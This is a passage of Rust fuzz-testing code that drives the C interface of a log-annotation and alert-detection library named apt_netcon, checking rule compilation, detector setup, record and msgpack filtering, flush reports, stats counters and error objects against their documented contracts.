            unsafe { aptnc_rule_free(self.rules[slot]) };
            self.rules[slot] = r;
        }

        fn set_det(&mut self, slot: usize, d: *mut aptnc_detector) {
            unsafe { aptnc_free(self.dets[slot]) };
            self.dets[slot] = d;
            self.records[slot] = 0;
        }

        /// `aptnc_filter` / `aptnc_filter_msgpack` on slot `slot`, checked.
        fn filter(&mut self, slot: usize, bytes: &[u8], msgpack_chunk: bool) {
            let d = self.dets[slot];
            let mut out = OUT_SENTINEL;
            let mut out_len = LEN_SENTINEL;
            let status = unsafe {
                if msgpack_chunk {
                    aptnc_filter_msgpack(d, bytes.as_ptr(), bytes.len(), &mut out, &mut out_len)
                } else {
                    aptnc_filter(d, bytes.as_ptr(), bytes.len(), &mut out, &mut out_len)
                }
            };
            assert!(known(status), "{}", status as u32);
            if d.is_null() {
                assert_eq!(status, aptnc_status::NullParameter);
            }
            assert!(!matches!(status, aptnc_status::Panic | aptnc_status::Poisoned), "{status:?}");
            if status != aptnc_status::Annotated {
                assert_eq!((out, out_len), (OUT_SENTINEL, LEN_SENTINEL), "out-params written on {status:?}");
                if msgpack_chunk {
                    assert!(
                        matches!(
                            status,
                            aptnc_status::Unchanged | aptnc_status::InvalidMsgpack | aptnc_status::NullParameter
                        ),
                        "{status:?}"
                    );
                }
            } else {
                assert!(!out.is_null() && out_len > 0);
                // Valid until the next call: read every byte now.
                let got = unsafe { std::slice::from_raw_parts(out, out_len) }.to_vec();
                if msgpack_chunk {
                    let mut fresh = super::detector(0);
                    apt_netcon::engine::chunk::filter_chunk(&mut fresh, &got, &mut Vec::new())
                        .expect("an annotated chunk walks");
                } else {
                    let _: std::collections::BTreeMap<String, Box<serde_json::value::RawValue>> =
                        serde_json::from_slice(&got).expect("an annotated record is a JSON object");
                }
            }
            if !d.is_null() {
                self.check_stats(slot);
            }
        }

        /// Counters never go backwards, and add up.
        fn check_stats(&mut self, slot: usize) {
            let mut st = aptnc_stats { size: size_of::<aptnc_stats>() as u32, ..Default::default() };
            assert_eq!(unsafe { aptnc_get_stats(self.dets[slot], &mut st) }, aptnc_status::Ok);
            assert!(st.records >= self.records[slot]);
            assert!(st.annotated <= st.records);
            let errors = st.too_large
                + st.invalid_json
                + st.invalid_msgpack
                + st.not_an_object
                + st.too_deep
                + st.bad_timestamp
                + st.annotate_failed;
            assert!(errors + st.annotated <= st.records);
            self.records[slot] = st.records;
        }
    }

    /// Calls that compile a rule (the slow part of a program) left for one
    /// input; later ones are skipped, so long programs stay fast.
    struct Budget(u32);

    impl Budget {
        fn take(&mut self) -> bool {
            let ok = self.0 > 0;
            self.0 = self.0.saturating_sub(1);
            ok
        }
    }

    /// The built-in rules' text (v5, or v11), computed once.
    fn builtin_text(v11: bool) -> &'static str {
        static TEXTS: std::sync::OnceLock<(String, String)> = std::sync::OnceLock::new();
        let (v5, v11_text) = TEXTS.get_or_init(|| {
            (
                Rule::builtin("v5").unwrap().query_text().to_string(),
                Rule::builtin("v11").unwrap().query_text().to_string(),
            )
        });
        if v11 {
            v11_text
        } else {
            v5
        }
    }

    /// A size for a size-prefixed struct of `full` bytes.
    fn size_choice(r: &mut Input, full: usize) -> u32 {
        r.pick(&[0, 4, 7, 8, 12, 16, full as u32, full as u32, full as u32 + 64, 255])
    }

    const BAD_CONFIGS: &[&[u8]] = &[
        br#"{"max_pending":1}"#,
        br#"{"rule":"nope"}"#,
        b"[1]",
        b"{\"rule\":\"\xff\"}",
        br#"{"maxspan":"0s"}"#,
        br#"{"max_record_bytes":-1}"#,
        br#"{"exceptions":[{"entries":[]}]}"#,
        b"{",
    ];

    pub fn run(data: &[u8]) {
        let mut r = Input::new(data);
        let mut w = World {
            rules: [ptr::null_mut(); SLOTS],
            dets: [ptr::null_mut(); SLOTS],
            records: [0; SLOTS],
            errors: vec![],
        };
        let samples = sample_lines();
        let mut steps = 0;
        let mut budget = Budget(4);
        while !r.is_empty() && steps < 512 {
            steps += 1;
            let op = r.u8() % 16;
            match op {
                0 => {
                    let flags = r.u8();
                    let slot = r.u8() as usize % SLOTS;
                    let names: &[&[u8]] = &[
                        b"apt_netcon_v5\0",
                        b"apt_netcon_v11\0",
                        b"default\0",
                        b"v5\0",
                        b"latest\0",
                        b"v11\0",
                        b"nope\0",
                        b"\0",
                    ];
                    let name = if flags % 9 == 8 {
                        ptr::null()
                    } else {
                        names[flags as usize % 9 % names.len()].as_ptr() as *const c_char
                    };
                    if !budget.take() {
                        continue;
                    }
                    let mut rule: *mut aptnc_rule = ptr::null_mut();
                    let mut err: *mut aptnc_error = ptr::null_mut();
                    let rule_p = if flags & 0x80 != 0 { ptr::null_mut() } else { &mut rule as *mut _ };
                    let err_p = if flags & 0x40 != 0 { ptr::null_mut() } else { &mut err as *mut _ };
                    let s = unsafe { aptnc_rule_builtin(name, rule_p, err_p) };
                    assert!(known(s));
                    assert_eq!(s == aptnc_status::Ok, !rule.is_null());
                    if name.is_null() || rule_p.is_null() {
                        assert_eq!(s, aptnc_status::NullParameter);
                    }
                    w.keep_error(err, s);
                    if !rule.is_null() {
                        w.set_rule(slot, rule);
                    }
                }
                1 => {
                    let flags = r.u8();
                    let slot = r.u8() as usize % SLOTS;
                    let text: &[u8] = if flags & 1 != 0 {
                        r.data()
                    } else {
                        builtin_text(flags & 2 != 0).as_bytes()
                    };
                    if !budget.take() {
                        continue;
                    }
                    let text_p = if flags & 0x20 != 0 { ptr::null() } else { text.as_ptr() };
                    let name = if flags & 4 != 0 { b"fuzz rule\0".as_ptr() as *const c_char } else { ptr::null() };
                    let mut rule: *mut aptnc_rule = ptr::null_mut();
                    let mut err: *mut aptnc_error = ptr::null_mut();
                    let rule_p = if flags & 0x80 != 0 { ptr::null_mut() } else { &mut rule as *mut _ };
                    let err_p = if flags & 0x40 != 0 { ptr::null_mut() } else { &mut err as *mut _ };
                    let s = unsafe { aptnc_rule_compile(text_p, text.len(), name, rule_p, err_p) };
                    assert!(known(s));
                    assert_eq!(s == aptnc_status::Ok, !rule.is_null());
                    if rule_p.is_null() || (text_p.is_null() && !text.is_empty()) {
                        assert_eq!(s, aptnc_status::NullParameter);
                    }
                    w.keep_error(err, s);
                    if !rule.is_null() {
                        w.set_rule(slot, rule);
                    }
                }
                2 => {
                    let slot = r.u8() as usize % SLOTS;
                    w.set_rule(slot, ptr::null_mut());
                }
                3 => {
                    let flags = r.u8();
                    let slot = r.u8() as usize % SLOTS;
                    let owned: Vec<u8>;
                    let cfg: &[u8] = match flags % 8 {
                        k @ 0..=5 => CONFIGS[k as usize % CONFIGS.len()].as_bytes(),
                        6 => {
                            // Raw bytes, unless they name a file to read.
                            owned = r.data().to_vec();
                            if owned.windows(4).any(|x| x.eq_ignore_ascii_case(b"file")) || owned.contains(&b'\\') {
                                b""
                            } else {
                                &owned
                            }
                        }
                        _ => r.pick(BAD_CONFIGS),
                    };
                    let cfg_p = if flags & 0x20 != 0 { ptr::null() } else { cfg.as_ptr() };
                    let rule = if flags & 0x10 != 0 { w.rules[r.u8() as usize % SLOTS] } else { ptr::null_mut() };
                    // Without a rule handle, init compiles the config's rule.
                    if rule.is_null() && !budget.take() {
                        continue;
                    }
                    let mut det: *mut aptnc_detector = ptr::null_mut();
                    let mut err: *mut aptnc_error = ptr::null_mut();
                    let det_p = if flags & 0x80 != 0 { ptr::null_mut() } else { &mut det as *mut _ };
                    let err_p = if flags & 0x40 != 0 { ptr::null_mut() } else { &mut err as *mut _ };
                    let s = unsafe { aptnc_init(cfg_p, cfg.len(), rule, det_p, err_p) };
                    assert!(known(s));
                    assert_eq!(s == aptnc_status::Ok, !det.is_null());
                    if det_p.is_null() || (cfg_p.is_null() && !cfg.is_empty()) {
                        assert_eq!(s, aptnc_status::NullParameter);
                    }
                    if flags % 8 < 6 && !det_p.is_null() && !cfg_p.is_null() {
                        assert_eq!(s, aptnc_status::Ok, "a valid config refused");
                    }
                    w.keep_error(err, s);
                    if !det.is_null() {
                        w.set_det(slot, det);
                    }
                }
                4 => {
                    let slot = r.u8() as usize % SLOTS;
                    w.set_det(slot, ptr::null_mut());
                }
                5 => {
                    let slot = r.u8() as usize % SLOTS;
                    let rec = r.data();
                    w.filter(slot, rec, false);
                }
                6 => {
                    let slot = r.u8() as usize % SLOTS;
                    let rec = samples[r.u8() as usize % samples.len()];
                    w.filter(slot, rec, false);
                }
                7 => {
                    let slot = r.u8() as usize % SLOTS;
                    let rec = gen_event(&mut r).to_string();
                    w.filter(slot, rec.as_bytes(), false);
                }
                8 => {
                    let slot = r.u8() as usize % SLOTS;
                    let chunk = r.data();
                    w.filter(slot, chunk, true);
                }
                9 => {
                    let slot = r.u8() as usize % SLOTS;
                    let n = r.u8() % 4;
                    let mut chunk = Vec::new();
                    if n == 3 {
                        push_record(&mut chunk, b"\x80", Wrap::Marker);
                    }
                    let bodies: Vec<Vec<u8>> = (0..n.max(1)).map(|_| msgpack(&gen_event(&mut r))).collect();
                    chunk.extend(chunk_of(&bodies));
                    if n == 2 {
                        push_record(&mut chunk, &msgpack(&gen_event(&mut r)), Wrap::LegacyInt);
                    }
                    w.filter(slot, &chunk, true);
                }
                10 => {
                    let slot = r.u8() as usize % SLOTS;
                    #[repr(C, align(8))]
                    struct Buf([u8; 256]);
                    let mut buf = Buf([0xee; 256]);
                    let full = size_of::<aptnc_flush_report>();
                    let size = size_choice(&mut r, full);
                    buf.0[..4].copy_from_slice(&size.to_ne_bytes());
                    let report = buf.0.as_mut_ptr() as *mut aptnc_flush_report;
                    let finish = r.u8() % 2 == 0;
                    let s = unsafe {
                        if finish {
                            aptnc_finish(w.dets[slot], report)
                        } else {
                            aptnc_flush(w.dets[slot], report)
                        }
                    };
                    check_sized(s, &buf.0, size, full, w.dets[slot].is_null());
                    if s == aptnc_status::Ok && size as usize >= full {
                        let rep = unsafe { &*(buf.0.as_ptr() as *const aptnc_flush_report) };
                        assert!(!rep.alerts.is_null());
                        let alerts = unsafe { std::slice::from_raw_parts(rep.alerts, rep.alerts_len) }.to_vec();
                        if finish {
                            assert_eq!(rep.held, 0, "aptnc_finish releases everything held");
                        }
                        assert_eq!(rep.alert_count == 0, alerts.is_empty(), "alert_count agrees with alerts_len");
                        if !alerts.is_empty() && alerts[0] == b'{' {
                            assert!(alerts.ends_with(b"\n"), "a JSON alert ends with a newline");
                        }
                    }
                }
                11 => {
                    let slot = r.u8() as usize % SLOTS;
                    #[repr(C, align(8))]
                    struct Buf([u8; 512]);
                    let mut buf = Buf([0xee; 512]);
                    let full = size_of::<aptnc_stats>();
                    let size = size_choice(&mut r, full);
                    buf.0[..4].copy_from_slice(&size.to_ne_bytes());
                    let s = unsafe { aptnc_get_stats(w.dets[slot], buf.0.as_mut_ptr() as *mut aptnc_stats) };
                    check_sized(s, &buf.0, size, full, w.dets[slot].is_null());
                }
                12 => {
                    let which = r.u8() as usize;
                    let free = r.u8() & 1 == 1;
                    let e = if w.errors.is_empty() || which % 5 == 4 {
                        ptr::null_mut()
                    } else {
                        w.errors[which % w.errors.len()]
                    };
                    unsafe {
                        let s = aptnc_error_status(e);
                        assert!(known(s));
                        let m = CStr::from_ptr(aptnc_error_message(e)).to_bytes().len();
                        assert_eq!(m == 0, e.is_null(), "an error without a message");
                        let k = aptnc_error_key(e);
                        if !k.is_null() {
                            let _ = CStr::from_ptr(k).to_bytes().len();
                        }
                        let (line, col) = (aptnc_error_line(e), aptnc_error_column(e));
                        assert_eq!(line == 0, col == 0, "line {line} column {col}");
                    }
                    if free && !e.is_null() {
                        w.errors.retain(|&x| x != e);
                        unsafe { aptnc_error_free(e) };
                    }
                }
                13 => {
                    let s = r.u32();
                    let t = unsafe { CStr::from_ptr(aptnc_status_str(s)) };
                    assert_eq!(t.to_bytes() == b"unknown status", s > 15);
                    let v = unsafe { CStr::from_ptr(aptnc_version()) };
                    assert_eq!(v.to_str().unwrap(), apt_netcon::VERSION);
                    assert_eq!(aptnc_abi_version(), APTNC_ABI_VERSION);
                }
                14 | 15 => {
                    let slot = r.u8() as usize % SLOTS;
                    let flags = r.u8();
                    let rec = samples[flags as usize % samples.len()];
                    let bytes: &[u8] = if op == 14 { rec } else { &sample_chunks()[flags as usize % samples.len()] };
                    let len = if flags & 8 != 0 { 0 } else { bytes.len() };
                    let p = if flags & 1 != 0 { ptr::null() } else { bytes.as_ptr() };
                    let mut out = OUT_SENTINEL;
                    let mut out_len = LEN_SENTINEL;
                    let out_p = if flags & 2 != 0 { ptr::null_mut() } else { &mut out as *mut _ };
                    let len_p = if flags & 4 != 0 { ptr::null_mut() } else { &mut out_len as *mut _ };
                    let d = w.dets[slot];
                    let s = unsafe {
                        if op == 14 {
                            aptnc_filter(d, p, len, out_p, len_p)
                        } else {
                            aptnc_filter_msgpack(d, p, len, out_p, len_p)
                        }
                    };
                    assert!(known(s));
                    if d.is_null() || out_p.is_null() || len_p.is_null() || (p.is_null() && len > 0) {
                        assert_eq!(s, aptnc_status::NullParameter);
                        assert_eq!((out, out_len), (OUT_SENTINEL, LEN_SENTINEL));
                    }
                    if s == aptnc_status::Annotated {
                        let _ = unsafe { std::slice::from_raw_parts(out, out_len) }.to_vec();
                    }
                    if !d.is_null() {
                        w.check_stats(slot);
                    }
                }
                _ => unreachable!(),
            }
        }
        for slot in 0..SLOTS {
            w.set_det(slot, ptr::null_mut());
            w.set_rule(slot, ptr::null_mut());
        }
        for e in w.errors.drain(..) {
            unsafe { aptnc_error_free(e) };
        }
    }

    /// A size-prefixed struct came back as the contract says.
    fn check_sized(s: aptnc_status, buf: &[u8], size: u32, full: usize, null_det: bool) {
        if null_det {
            assert_eq!(s, aptnc_status::NullParameter);
        } else if size < 8 {
            assert_eq!(s, aptnc_status::InvalidArgument);
        } else {
            assert_eq!(s, aptnc_status::Ok);
        }
        let written = u32::from_ne_bytes(buf[..4].try_into().unwrap()) as usize;
        if s != aptnc_status::Ok {
            assert_eq!(written, size as usize, "size changed on failure");
            assert!(buf[4..].iter().all(|&b| b == 0xee), "written on failure");
            return;
        }
        let n = (size as usize).min(full);
        assert_eq!(written, n);
        assert!(buf[n..].iter().all(|&b| b == 0xee), "wrote past `size`");
    }
}
